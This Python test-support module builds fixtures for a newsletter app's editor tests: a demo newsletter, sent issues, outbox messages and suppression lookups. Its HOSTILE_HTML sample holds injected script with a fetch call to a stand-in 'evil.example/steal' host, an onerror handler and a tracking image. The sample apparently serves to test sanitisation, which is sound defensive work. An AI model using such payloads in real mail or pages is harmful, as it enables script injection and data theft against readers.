"""Data for the editor workspace tests: the demo newsletter, sent issues, outbox messages."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

from flask import Flask
from sqlalchemy.orm import Session

from digest.core.db import utcnow
from digest.core.models import Issue, IssuePost, IssueStatus, Newsletter, Post, Suppression
from digest.domain.demo import load_demo
from digest.domain.suppression import suppression_for
from digest.mail.message import Mail
from digest.mail.transport import OutboxTransport
from tests.support.apps import get_db_of

HOSTILE_HTML = """<!doctype html><html><head><style>p { color: #c00; }</style></head>
<body><p style="font-weight:bold">Hello <img src="https://cdn.example.net/logo.png" alt="logo"></p>
<script>document.body.dataset.owned = "script"; fetch("https://evil.example/steal");</script>
<img src="x" onerror="document.body.dataset.owned = 'img'">
<table background="http://tracker.example.org:8080/bg.gif"><tr><td>Cell</td></tr></table>
</body></html>"""


def demo_newsletter(db: Session) -> Newsletter:
    """Load and commit the demo newsletter; return it."""
    newsletter = load_demo(db)
    assert newsletter is not None
    db.commit()
    return newsletter


def sent_issue(db: Session, newsletter: Newsletter, slug: str, posts: list[Post],
               sent_at: dt.datetime | None = None, subject: str = "An issue") -> Issue:
    """Add and commit an issue in the SENT state carrying posts in this order."""
    sent_at = sent_at or utcnow()
    issue = Issue(newsletter=newsletter, slug=slug, subject=subject, status=IssueStatus.SENT,
                  intro_md="Hello **readers**.", preheader="The preheader", started_at=sent_at,
                  sent_at=sent_at, created_at=sent_at - dt.timedelta(hours=1))
    db.add(issue)
    db.flush()
    issue.issue_posts = [IssuePost(post_id=p.id, position=i) for i, p in enumerate(posts)]
    db.commit()
    return issue


def outbox_message(app: Flask, subject: str = "A hostile message", html: str = HOSTILE_HTML,
                   to: str = "reader@example.org",
                   text: str = "Plain text. Confirm at https://news.example.org/confirm/abc.def and reply.") -> str:
    """Write a message into the app's outbox the way the mailer does; return its file name."""
    mail = Mail(from_="News <news@news.example.org>", to=to, subject=subject,
                text=text,
                html=html, message_id="<m1@news.example.org>")
    result = OutboxTransport(Path(app.config["OUTBOX_PATH"])).send(
        "bounces@news.example.org", to, mail.as_bytes())
    assert result.queue_id
    return result.queue_id


def suppression_entry(app: Flask, email: str) -> Suppression | None:
    """Return the suppression entry of an address (read in a short session of its own)."""
    with get_db_of(app).session() as session:
        return suppression_for(session, app.config, email)
